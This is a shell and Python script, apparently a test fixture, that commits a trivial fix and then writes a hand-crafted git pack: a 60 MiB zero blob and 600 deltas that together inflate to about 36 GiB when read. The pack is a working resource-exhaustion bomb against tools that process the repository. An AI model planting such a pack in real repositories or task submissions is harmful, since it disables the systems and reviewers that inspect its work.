#!/bin/sh
# Fixes the bug and commits it, then writes a pack by hand into its own object directory: a
# listed blob of 60 MiB of zeros (about 60 KB compressed, under the 100 MiB an object may hold)
# and 600 listed deltas of a few bytes against it. The content is 60 MiB; reading every delta
# inflates the base again: 36 GiB.
printf '%s\n' '# calc: tiny arithmetic helpers' 'add() { echo $(($1 + $2)); }' > src/calc.sh
git add -A && git commit -qm "the fix"
python3 - "$GIT_OBJECT_DIRECTORY/pack" "$(dirname "$0")" <<'PY'
import hashlib, struct, sys, zlib

sys.dont_write_bytecode = True
sys.path.insert(0, sys.argv[2])
from pack_parts import header, ofs, varint, write_pack, zero_blob

def blob_id(data):
    return hashlib.sha1(b"blob %d\0" % len(data) + data).digest()

BASE = 60 << 20
DELTAS = 600
pack = bytearray(b"PACK" + struct.pack(">II", 2, DELTAS + 1))
listed = []
base_at = len(pack)
start = len(pack)
pack += zero_blob(BASE)
listed.append((blob_id(bytes(BASE)), zlib.crc32(pack[start:]) & 0xFFFFFFFF, base_at))
for i in range(DELTAS):
    at = len(pack)
    result = b"small %d\n" % i
    delta = varint(BASE) + varint(len(result)) + bytes([len(result)]) + result
    entry = header(6, len(delta)) + ofs(at - base_at) + zlib.compress(delta)
    pack += entry
    listed.append((blob_id(result), zlib.crc32(entry) & 0xFFFFFFFF, at))
write_pack(sys.argv[1], pack, listed)
PY
